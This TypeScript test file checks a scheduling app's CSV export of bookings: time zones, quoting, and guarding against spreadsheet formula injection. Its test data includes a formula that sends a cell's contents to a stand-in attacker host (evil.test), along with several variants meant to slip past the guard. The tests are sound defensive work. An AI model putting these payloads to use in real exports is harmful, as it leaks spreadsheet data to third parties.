import type { HostBooking } from '@scheduling/contract'
import { TRACKING_PARAMS } from '@scheduling/contract'
import { expect, test } from 'vitest'
import { bookingLine, bookingsHead } from './csv.ts'

const BOOKING: HostBooking = {
  id: '6f1b0f2e-0000-4000-8000-000000000001',
  status: 'scheduled',
  start: '2027-03-28T00:30:00.000Z',
  end: '2027-03-28T01:30:00.000Z',
  date: null,
  duration: 60,
  seats: null,
  eventName: 'Intro',
  location: { kind: 'address', value: 'Main Street 1, Springfield' },
  invitee: { name: 'Ada', email: 'ada@example.test', timeZone: 'Asia/Tokyo', language: 'en' },
  guests: ['bo@example.test', 'cy@example.test'],
  answers: [
    { label: 'Topic?', answer: 'Plans' },
    { label: 'Days?', answer: ['Mon', 'Tue'] },
  ],
  formerStart: null,
  rescheduleReason: null,
  cancelReason: null,
  canceledBy: null,
  bookedAt: '2027-03-01T08:00:00.000Z',
  erasure: null,
  eventTypeId: null,
  tracking: { utm_source: 'news', li_fat_id: 'x' },
  rescheduledBy: null,
  receipt: { at: '2027-03-01T08:00:00.000Z', schedule: null, rules: null, sources: [] },
  outcome: 'scheduled',
  inviteeStart: '2027-03-28T09:30:00+09:00',
  inviteeEnd: '2027-03-28T10:30:00+09:00',
}

/** Parses CSV as in RFC 4180. */
function parse(text: string): string[] {
  const found = text.replace(/\r\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)
  return [...found].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

const names = parse(bookingsHead().slice(1))

function fields(change: Partial<HostBooking>, zone = 'Europe/Berlin'): Record<string, string> {
  const values = parse(bookingLine({ ...BOOKING, ...change }, zone))
  expect(values).toHaveLength(names.length)
  return Object.fromEntries(names.map((name, index) => [name, values[index] ?? '']))
}

test('begins with a byte order mark, ends each line as the RFC says, and has a column for each campaign id', () => {
  expect(bookingsHead()).toMatch(/^\uFEFFid,outcome,event,start,end,.*\r\n$/)
  expect(bookingLine(BOOKING, 'UTC')).toMatch(/\r\n$/)
  expect(names).toEqual(expect.arrayContaining([...TRACKING_PARAMS]))
})

test('has instants in UTC and on the host’s wall, also where the clock is changed within', () => {
  expect(fields({})).toMatchObject({
    start: '2027-03-28T00:30:00.000Z',
    end: '2027-03-28T01:30:00.000Z',
    host_time_zone: 'Europe/Berlin',
    host_start: '2027-03-28 01:30',
    host_end: '2027-03-28 03:30',
    duration_minutes: '60',
  })
})

test('has everything that the host sees, in one line each', () => {
  expect(fields({})).toMatchObject({
    location: 'address: Main Street 1, Springfield',
    invitee_name: 'Ada',
    guests: 'bo@example.test cy@example.test',
    answers: 'Topic? Plans\nDays? Mon, Tue',
    former_start: '',
    utm_source: 'news',
    li_fat_id: 'x',
    utm_medium: '',
  })
})

test.each(['a,b', 'say "hi"', 'two\nlines', 'two\r\nlines', '",\r\n"', '', ' x ', 'Größe 你好 🎉'])(
  '%j is read as it was',
  (eventName) => {
    expect(fields({ eventName }).event).toBe(eventName)
  },
)

test.each([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.test?x="&A1)', `'=HYPERLINK("http://evil.test?x="&A1)`],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝1+1', "'＝1+1"],
  ['﹢1', "'﹢1"],
  ['  =1+1', "'  =1+1"],
  ['\u00A0\u3000=1+1', "'\u00A0\u3000=1+1"],
  ['\t=1+1', "\t'=1+1"],
  ['\r=1+1', "\r'=1+1"],
  ['\n=1+1', "\n'=1+1"],
  ['Ada;=1+1', "Ada;'=1+1"],
  ['Ada; =1+1;@A1', "Ada;' =1+1;'@A1"],
  ['Ada\t+1', "Ada\t'+1"],
  ['Ada,-1', "Ada,'-1"],
  ['two\r\n＠lines', "two\r\n'＠lines"],
  ['Ada;"=1+1;', `Ada;'"=1+1;`],
  ['Ada; " " =1+1', `Ada;' " " =1+1`],
])('a spreadsheet does not carry out %j, wherever it stands', (text, guarded) => {
  const change = { eventName: text, cancelReason: text, tracking: { utm_source: text } }
  const found = fields({ ...change, invitee: { ...BOOKING.invitee, name: text } })
  expect(found).toMatchObject({
    event: guarded,
    cancel_reason: guarded,
    utm_source: guarded,
    invitee_name: guarded,
  })
})

test.each(['a=b', '1+1', 'ada@example.test', 'Anna-Maria; Bo', '2027-03-01', 'x, y', 'https://a.test/?b=c'])(
  '%j is no formula and stays as it is',
  (text) => {
    expect(fields({ eventName: text }).event).toBe(text)
  },
)
